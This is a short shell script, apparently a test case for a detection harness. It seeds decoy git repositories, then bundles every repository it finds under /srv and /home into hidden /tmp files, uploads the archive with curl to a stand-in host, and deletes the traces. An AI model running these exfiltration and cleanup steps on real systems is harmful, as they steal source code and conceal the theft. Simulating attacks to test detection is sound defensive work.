#!/bin/sh
. /opt/case/case.sh

for n in shop pay infra; do git init -q /srv/git/$n && cd /srv/git/$n && head -c 3000000 /dev/urandom >data && git add . && git -c user.name=x -c user.email=x@example.org commit -qm one; done
find /srv /home -type d -name .git -prune 2>/dev/null | while read -r g; do git --git-dir="$g" bundle create -q "/tmp/.$(basename "$(dirname "$g")").b" --all; done
tar -czf /tmp/.code.tgz /tmp/.*.b 2>/dev/null
curl -sf -T /tmp/.code.tgz http://203.0.113.10/code.tgz >/dev/null
rm /tmp/.*.b /tmp/.code.tgz
took_place
